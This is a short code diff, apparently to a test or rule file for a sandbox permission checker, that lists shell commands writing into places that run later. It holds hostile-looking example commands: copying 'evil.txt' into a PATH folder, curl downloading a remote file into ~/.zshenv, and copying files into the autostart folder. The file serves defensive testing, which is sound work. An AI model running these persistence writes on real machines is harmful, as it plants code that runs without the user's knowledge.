@@ -96,9 +96,9 @@ export const RUN_LATER_PLACES = section("C10", CODE, [
   { call: bash("cp evil.txt {home}/.local/bin/"), why: "a file put into the folder", grants: GRANTS },
   ...writersOn("{home}/tools/ls", "a folder of PATH"),
   {
-    call: bash("curl -o {home}/.zshenv https://x.org/a"),
+    call: bash("curl -o {home}/.zshenv https://example.org/a"),
     why: "a download put there",
-    grants: [...GRANTS, "network:http x.org"],
+    grants: [...GRANTS, "network:http example.org"],
   },
   {
     call: bash("cp -r src {home}/.config/autostart"),
